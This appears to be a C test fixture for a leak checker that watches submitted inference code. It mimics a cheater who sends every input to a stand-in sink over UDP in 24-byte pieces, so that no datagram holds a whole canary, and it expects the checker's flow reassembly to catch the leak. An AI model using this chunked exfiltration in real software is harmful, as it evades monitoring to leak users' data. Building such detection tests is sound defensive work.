/* leak_small_pieces.c — a cheater who read how canaries are matched (a canary is a run of about
 * 26 float32 elements, 104 bytes of digits): it sends every input to AITC_FIXTURE_SINK over UDP in
 * 24-byte datagrams, so that no single frame holds a whole canary. The matcher joins each
 * conversation's payloads before searching (FlowReassembly): must fail PRV-02, -03 and -05, the
 * hits found "reassembled". Sends only to AITC_FIXTURE_SINK inside 10.250.0.0/16. */
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

void fixture_leak(const unsigned char *data, size_t bytes)
{
    struct sockaddr_in sink;
    if (fixture_sink(&sink) != 0) return;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) return;
    for (size_t at = 0; at < bytes; at += 24) {
        size_t length = bytes - at < 24 ? bytes - at : 24;
        (void)sendto(fd, data + at, length, 0, (struct sockaddr *)&sink, sizeof sink);
    }
    close(fd);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
